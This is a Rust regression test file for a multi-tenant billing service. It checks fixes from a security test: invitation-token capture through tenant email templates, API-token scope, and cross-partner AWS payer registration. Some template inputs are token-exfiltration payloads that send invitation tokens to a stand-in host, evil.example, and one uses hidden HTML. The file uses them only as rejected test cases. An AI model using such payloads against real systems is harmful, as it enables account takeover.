//! Regressions from the outside security test (issue #16): invitation links out of tenants'
//! templates' reach, API tokens kept inside their own grant, and payer registration that tells
//! one partner nothing about another's payers.

use std::sync::{Arc, Mutex};

use aws_sdk_sts::operation::assume_role::{AssumeRoleError, AssumeRoleOutput};
use aws_sdk_sts::operation::get_caller_identity::GetCallerIdentityOutput;
use aws_smithy_mocks::{RuleMode, mock, mock_client};
use e2e::aws;
use e2e::story::payer_input;
use e2e::notify::{SmtpSink, free_port};
use e2e::{DbKind, TestApp, on_both_databases};
use partner_billing::aws::{AwsClients, SdkOrganizations, SdkSts};
use sea_orm::{ActiveModelTrait, ActiveValue::Set};
use serde_json::{Value, json};

fn invited_override(html: &str, text: &str) -> Value {
    json!({ "subject": "Welcome to Acme's billing", "html": html, "text": text, "eventType": "user.invited", "locale": "en" })
}

/// The attack of the report: a customer's admin overrides `user.invited` to send the token to
/// their own host; the distributor then invites someone into that customer.
async fn a_tenants_template_cannot_capture_an_invitation_link(db: DbKind) {
    let smtp = SmtpSink::start(free_port()).await;
    let app = TestApp::spawn_with(
        db,
        vec![("smtp_url", smtp.url()), ("notify_interval_ms", "100".to_owned()), ("public_url", "https://billing.partner.example".to_owned())],
    )
    .await;
    let root = app.platform_admin().await;
    let p = app.new_partner(&root, "Hijack Co").await;
    let partner_admin = app.as_user(&p.admin);
    let customer = partner_admin.create_tenant(&p.tenant_id, "CUSTOMER", "Acme").await;
    let acme_admin = partner_admin.create_user("admin@acme-hijack.example", "ADMIN", ("tenantId", &customer)).await;
    let acme = app.as_user(&acme_admin);

    // Reading the token, or the server's link, is refused when the override is saved.
    for (html, text) in [
        ("<a href=\"https://evil.example/?t={{data.token}}\">Set password</a>", "Set it at https://evil.example/?t={{data.token}}"),
        ("<p>Hi</p>", "Set it at https://evil.example/#{{action.url}}"),
    ] {
        let mut input = invited_override(html, text);
        input["tenantId"] = json!(customer);
        acme.try_update_notification_template(input).await.assert_code("VALIDATION");
    }
    assert_eq!(app.count("notification_templates").await, 0, "nothing stored");

    // An override may change the words (and try to hide what follows); the link still comes.
    let mut input = invited_override("<p>Acme welcomes you.</p><div style=\"display:none\"><!--", "Acme welcomes you.");
    input["tenantId"] = json!(customer);
    assert_eq!(acme.try_update_notification_template(input).await.data("updateNotificationTemplate.overridden"), true);
    partner_admin.invite_user("new@acme-hijack.example", "VIEWER", &customer).await;
    let mail = &smtp.wait_for("new@acme-hijack.example", 1).await[0];
    assert_eq!(mail["subject"], "Welcome to Acme's billing");
    // Mail travels with CRLF line ends.
    let text = mail["text"].as_str().unwrap().replace("\r\n", "\n");
    assert!(text.starts_with("Acme welcomes you."), "{text}");
    let token = text.split("Set your password:\nhttps://billing.partner.example/set-password?token=").nth(1).expect("the server's link").trim().to_owned();
    let html = mail["html"].as_str().unwrap().replace("&#x3D;", "=");
    assert!(html.contains(&format!("href=\"https://billing.partner.example/set-password?token={token}\"")), "{html}");
    assert!(!html.contains("display:none") && !html.contains("<!--") && !html.contains("evil.example"), "{html}");
    // The link works, once.
    assert!(!app.anonymous().set_password(&token, "a long enough passphrase").await.is_empty());

    // An override stored before this fix (reading data.token) no longer renders: the built-in
    // goes out instead, with the server's link and nothing of the override.
    let stored = entity::notification_templates::ActiveModel {
        id: Set(uuid::Uuid::now_v7()),
        tenant_id: Set(customer.parse().unwrap()),
        event_type: Set("user.invited".to_owned()),
        locale: Set("zh-CN".to_owned()),
        subject: Set("欢迎".to_owned()),
        html: Set("<a href=\"https://evil.example/?t={{data.token}}\">x</a>".to_owned()),
        text: Set("https://evil.example/?t={{data.token}}".to_owned()),
        updated_by: Set(acme_admin.user_id.parse().unwrap()),
        updated_at: Set(chrono::Utc::now()),
    };
    stored.insert(&app.db).await.unwrap();
    partner_admin.add_user(json!({ "email": "zh@acme-hijack.example", "role": "VIEWER", "tenantId": customer, "locale": "zh-CN" })).await;
    let mail = &smtp.wait_for("zh@acme-hijack.example", 1).await[0];
    assert_eq!(mail["subject"], "您已受邀加入 Partner Billing");
    let text = mail["text"].as_str().unwrap().replace("\r\n", "\n");
    assert!(text.contains("设置密码:\nhttps://billing.partner.example/set-password?token=pbs_") && !text.contains("evil"), "{text}");
}

async fn token(app: &TestApp, who: &e2e::Session, role: &str, target: (&str, &str)) -> (String, String) {
    let expires = (chrono::Utc::now() + chrono::Duration::days(300)).to_rfc3339();
    let created = app.as_user(who).create_api_token(json!({ "name": format!("{role} token"), "role": role, target.0: target.1, "expiresAt": expires })).await;
    (created["secret"].as_str().unwrap().to_owned(), created["token"]["id"].as_str().unwrap().to_owned())
}

fn ids(res: &e2e::Gql) -> Vec<String> {
    res.data("apiTokens.nodes").as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap().to_owned()).collect()
}

/// A payer VIEWER token listed and revoked its creator's distributor ADMIN token.
async fn api_tokens_manage_only_tokens_inside_their_own_grant(db: DbKind) {
    let app = TestApp::spawn(db).await;
    let root = app.platform_admin().await;
    let p = app.new_partner(&root, "Token Scope Co").await;
    let (admin_secret, admin_token) = token(&app, &p.admin, "ADMIN", ("tenantId", &p.tenant_id)).await;
    let (viewer_secret, viewer_token) = token(&app, &p.admin, "VIEWER", ("payerId", &p.payer_id)).await;
    let (payer_admin_secret, payer_admin_token) = token(&app, &p.admin, "ADMIN", ("payerId", &p.payer_id)).await;

    // The viewer token sees no token, not even its creator's, and cannot revoke any.
    let (viewer, payer_admin, admin) = (app.with_token(&viewer_secret), app.with_token(&payer_admin_secret), app.with_token(&admin_secret));
    assert!(ids(&viewer.api_tokens().await).is_empty());
    for id in [&admin_token, &payer_admin_token, &viewer_token] {
        viewer.try_revoke_api_token(id).await.assert_code("NOT_FOUND");
    }
    // A payer ADMIN token manages the tokens on its payer only.
    let seen = ids(&payer_admin.api_tokens().await);
    assert!(seen.contains(&viewer_token) && seen.contains(&payer_admin_token) && !seen.contains(&admin_token), "{seen:?}");
    payer_admin.try_revoke_api_token(&admin_token).await.assert_code("NOT_FOUND");
    // The distributor ADMIN token still works: nobody below it revoked it.
    let still = admin.api_tokens().await;
    assert_eq!(ids(&still).len(), 3, "{:?}", still.body);
    // Inside its grant a token may revoke: the tenant ADMIN token ends the viewer token.
    assert!(admin.revoke_api_token(&viewer_token).await["revokedAt"].is_string());
    viewer.api_tokens().await.assert_code("UNAUTHENTICATED");
    // The signed-in creator still sees every token they made.
    assert_eq!(ids(&app.as_user(&p.admin).api_tokens().await).len(), 3);
}

/// AssumeRole as the account's IAM would answer it: only the ExternalId its role's trust policy
/// names is accepted (moto does not evaluate trust policies). Requests are recorded.
fn sts_trusting(account: &str, trusted_external_id: Arc<Mutex<String>>, seen: Arc<Mutex<Vec<String>>>) -> SdkSts {
    let (trusted, trusted2) = (trusted_external_id.clone(), trusted_external_id);
    let refused = mock!(aws_sdk_sts::Client::assume_role)
        // Rules are tried in order: this first one sees every request.
        .match_requests(move |r| {
            seen.lock().unwrap().push(r.external_id().unwrap_or_default().to_owned());
            r.external_id() != Some(trusted.lock().unwrap().as_str())
        })
        .then_error(|| {
            AssumeRoleError::generic(
                aws_smithy_types::error::ErrorMetadata::builder().code("AccessDenied").message("User is not authorized to perform: sts:AssumeRole").build(),
            )
        });
    let accepted = mock!(aws_sdk_sts::Client::assume_role)
        .match_requests(move |r| r.external_id() == Some(trusted2.lock().unwrap().as_str()))
        .then_output(|| {
            let expires = aws_smithy_types::DateTime::from_secs(chrono::Utc::now().timestamp() + 3600);
            AssumeRoleOutput::builder()
                .credentials(aws_sdk_sts::types::Credentials::builder().access_key_id("ASIAEXAMPLE").secret_access_key("s").session_token("t").expiration(expires).build().unwrap())
                .build()
        });
    let account = account.to_owned();
    let caller = mock!(aws_sdk_sts::Client::get_caller_identity).then_output(move || GetCallerIdentityOutput::builder().account(&account).build());
    let client = mock_client!(aws_sdk_sts, RuleMode::MatchAny, &[&refused, &accepted, &caller]);
    SdkSts::from_conf(client.config().clone())
}

/// Partner B registering an account partner A manages learns nothing, and cannot connect it.
async fn registering_anothers_payer_reveals_nothing(db: DbKind) {
    let account = aws::random_account();
    let trusted = Arc::new(Mutex::new(String::new()));
    let seen = Arc::new(Mutex::new(Vec::new()));
    let sdk = aws::sdk_config(&aws::moto_url()).await;
    let clients = AwsClients::new(Arc::new(sts_trusting(&account, trusted.clone(), seen.clone())), Arc::new(SdkOrganizations::new(&sdk)));
    let app = TestApp::spawn_with_aws(db, vec![], clients).await;
    let root = app.platform_admin().await;
    let a = app.new_partner(&root, "Owner Co").await;
    let b = app.new_partner(&root, "Squatter Co").await;
    let (a_admin, b_admin) = (app.as_user(&a.admin), app.as_user(&b.admin));
    let a_payer = a_admin.register_payer(&payer_input(&a.tenant_id, &account, "Payer")).await;
    // A registering it again is told: A can see its own registration.
    a_admin.try_register_payer(&payer_input(&a.tenant_id, &account, "Payer")).await.assert_code("CONFLICT");
    // B gets exactly the answer it would get for an unregistered account: its own registration
    // with its own ExternalId, PENDING.
    let b_payer = b_admin.register_payer(&payer_input(&b.tenant_id, &account, "Payer")).await;
    assert_eq!(b_payer["status"], "PENDING");
    assert_ne!(b_payer["externalId"], a_payer["externalId"]);
    // Neither sees the other's registration.
    for (who, own, other) in [(&a, &a_payer, &b_payer), (&b, &b_payer, &a_payer)] {
        let who = app.as_user(&who.admin);
        let listed = who.payers().await;
        let listed: Vec<&Value> = listed.as_array().unwrap().iter().map(|n| &n["id"]).collect();
        assert!(listed.contains(&&own["id"]) && !listed.contains(&&other["id"]), "{listed:?}");
        who.try_payer(other["id"].as_str().unwrap()).await.assert_code("NOT_FOUND");
    }

    // The account's owner deploys the role trusting A's ExternalId. Each check presents the
    // registration's own ExternalId; only A's is accepted.
    *trusted.lock().unwrap() = a_payer["externalId"].as_str().unwrap().to_owned();
    let b_checked = b_admin.try_check_payer_connection(b_payer["id"].as_str().unwrap()).await;
    assert_eq!(b_checked.data("checkPayerConnection.status"), "ERROR");
    assert!(b_checked.data("checkPayerConnection.statusReason").as_str().unwrap().contains("ExternalId does not match"), "{:?}", b_checked.body);
    let a_checked = a_admin.try_check_payer_connection(a_payer["id"].as_str().unwrap()).await;
    // Moto's organization for the mocked credentials is not this account's: what matters here is
    // that A's role was assumed (the failure, if any, comes after AssumeRole).
    let a_status = a_checked.data("checkPayerConnection.statusReason").as_str().unwrap_or_default().to_owned();
    assert!(!a_status.contains("ExternalId does not match"), "{a_status}");
    let presented = seen.lock().unwrap().clone();
    assert!(presented.contains(&b_payer["externalId"].as_str().unwrap().to_owned()), "{presented:?}");
    assert!(presented.contains(&a_payer["externalId"].as_str().unwrap().to_owned()), "{presented:?}");
    assert!(presented.iter().all(|e| e == a_payer["externalId"].as_str().unwrap() || e == b_payer["externalId"].as_str().unwrap()), "{presented:?}");
    // B never learnt A's ExternalId or state: nothing in B's answers names A.
    assert!(!b_checked.body.to_string().contains(a_payer["externalId"].as_str().unwrap()));
}

on_both_databases!(
    a_tenants_template_cannot_capture_an_invitation_link,
    api_tokens_manage_only_tokens_inside_their_own_grant,
    registering_anothers_payer_reveals_nothing,
);
